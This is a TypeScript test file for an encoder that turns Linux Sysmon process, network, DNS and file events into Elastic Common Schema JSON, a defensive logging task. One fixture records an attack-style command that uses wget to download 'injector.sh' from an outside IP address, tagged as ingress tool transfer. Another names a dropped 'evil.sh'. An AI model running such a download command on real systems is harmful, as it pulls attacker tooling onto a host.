import assert from 'node:assert/strict';
import { promises as fsp } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { createJsonlFileSink, encodeEcs, parseHashes } from '../../sinks/jsonl/index.js';
import { utcTime } from '../../src/events/time.js';
import { HOSTILE, IDENTITY, processCreate } from './fixtures.js';

type J = Record<string, any>;

test('ECS: ProcessCreate maps process, parent, user, hashes; keeps the record under winlog', () => {
  const ev = processCreate(42, { Hashes: 'SHA1=AB,MD5=CD,SHA256=EF,IMPHASH=01', User: 'CORP\\alice', RuleName: 'technique_id=T1105' });
  const line = encodeEcs(ev, IDENTITY);
  assert.ok(line.endsWith('\n') && !line.slice(0, -1).includes('\n'));
  const o = JSON.parse(line) as J;
  assert.equal(o['@timestamp'], '2022-11-24T08:30:01.467Z');
  assert.deepEqual(o.event.category, ['process']);
  assert.deepEqual(o.event.type, ['start']);
  assert.equal(o.event.code, '1');
  assert.equal(o.event.action, 'ProcessCreate');
  assert.equal(o.host.name, 'ip-172-31-60-25');
  assert.equal(o.rule.name, 'technique_id=T1105');
  assert.equal(o.process.pid, 3372);
  assert.equal(o.process.executable, '/usr/bin/wget');
  assert.equal(o.process.name, 'wget');
  assert.equal(o.process.command_line, 'wget http://44.204.18.94:80/injector.sh');
  assert.equal(o.process.working_directory, '/root');
  assert.equal(o.process.entity_id, '{c9eb4a87-2b89-637f-700c-0807f5550000}');
  assert.deepEqual(o.process.hash, { sha1: 'ab', md5: 'cd', sha256: 'ef' });
  assert.equal(o.process.pe.imphash, '01');
  assert.equal(o.process.pe?.company, undefined, '"-" values are left out');
  assert.equal(o.process.parent.pid, 3371);
  assert.equal(o.process.parent.executable, '/bin/bash');
  assert.equal(o.process.parent.name, 'bash');
  assert.equal(o.process.parent.command_line, '/bin/bash');
  assert.deepEqual(o.user, { domain: 'CORP', name: 'alice' });
  assert.equal(o.winlog.record_id, 42);
  assert.equal(o.winlog.provider_name, 'Linux-Sysmon');
  assert.equal(o.winlog.event_data.CommandLine, ev.data.CommandLine);
  assert.equal(o.winlog.event_data.ProcessId, 3372);
});

test('ECS: NetworkConnect, DnsQuery, FileCreate, Error', () => {
  const t = utcTime(1700000000000000000n);
  const net = JSON.parse(
    encodeEcs(
      {
        id: 3,
        recordId: 1,
        timeNs: 1n,
        data: {
          RuleName: '-',
          UtcTime: t,
          ProcessGuid: '{a}',
          ProcessId: 10,
          Image: '/usr/bin/curl',
          User: 'root',
          Protocol: 'tcp',
          Initiated: true,
          SourceIsIpv6: false,
          SourceIp: '10.0.0.1',
          SourceHostname: '-',
          SourcePort: 40000,
          SourcePortName: '-',
          DestinationIsIpv6: false,
          DestinationIp: '1.2.3.4',
          DestinationHostname: '-',
          DestinationPort: 443,
          DestinationPortName: '-',
        },
      },
      IDENTITY,
    ),
  ) as J;
  assert.deepEqual(net.network, { transport: 'tcp', direction: 'egress', type: 'ipv4' });
  assert.deepEqual(net.source, { ip: '10.0.0.1', port: 40000 });
  assert.deepEqual(net.destination, { ip: '1.2.3.4', port: 443 });
  assert.equal(net['@timestamp'], '2023-11-14T22:13:20.000Z');
  const dns = JSON.parse(
    encodeEcs(
      {
        id: 22,
        recordId: 2,
        timeNs: 1n,
        data: {
          RuleName: '-',
          UtcTime: t,
          ProcessGuid: '{a}',
          ProcessId: 10,
          QueryName: 'example.com',
          QueryStatus: '0',
          QueryResults: 'type:  5 example.net;::ffff:93.184.216.34;2606:2800:220:1::;',
          Image: '/usr/bin/curl',
          User: 'root',
        },
      },
      IDENTITY,
    ),
  ) as J;
  assert.equal(dns.dns.question.name, 'example.com');
  assert.deepEqual(dns.dns.resolved_ip, ['93.184.216.34', '2606:2800:220:1::']);
  const file = JSON.parse(
    encodeEcs(
      {
        id: 11,
        recordId: 3,
        timeNs: 1n,
        data: {
          RuleName: '-',
          UtcTime: t,
          ProcessGuid: '{a}',
          ProcessId: 10,
          Image: '/bin/cp',
          TargetFilename: '/tmp/x/evil.sh',
          CreationUtcTime: t,
          User: 'root',
        },
      },
      IDENTITY,
    ),
  ) as J;
  assert.deepEqual(file.file, { path: '/tmp/x/evil.sh', name: 'evil.sh', directory: '/tmp/x', extension: 'sh' });
  assert.deepEqual(file.event.type, ['creation']);
  const err = JSON.parse(encodeEcs({ id: 255, recordId: 4, timeNs: 1n, data: { UtcTime: t, ID: 'x', Description: 'lost 3' } }, IDENTITY)) as J;
  assert.equal(err.error.message, 'lost 3');
  assert.equal(err.event.kind, 'alert');
});

test('ECS: hostile values stay one JSON line and round-trip', () => {
  for (const v of Object.values(HOSTILE)) {
    const line = encodeEcs(processCreate(1, { CommandLine: v }), IDENTITY);
    assert.ok(!line.slice(0, -1).includes('\n'));
    assert.equal((JSON.parse(line) as J).process.command_line, v);
  }
  assert.deepEqual(parseHashes('-'), {});
});

test('ECS file sink: exactly-once reads winlog.record_id back', async () => {
  const dir = await fsp.mkdtemp(join(tmpdir(), 'ecs-'));
  const file = join(dir, 'e.json');
  const a = createJsonlFileSink(file, { identity: IDENTITY, format: 'ecs' });
  await a.open();
  await a.write([processCreate(1), processCreate(2)]);
  await a.close();
  const b = createJsonlFileSink(file, { identity: IDENTITY, format: 'ecs' });
  await b.open();
  assert.equal(b.lastRecordId, 2);
  await b.write([processCreate(2), processCreate(3)]);
  await b.close();
  const text = await fsp.readFile(file, 'utf8');
  await fsp.rm(dir, { recursive: true, force: true });
  const ids = text
    .split('\n')
    .filter(Boolean)
    .map((l) => (JSON.parse(l) as J).winlog.record_id);
  assert.deepEqual(ids, [1, 2, 3]);
});
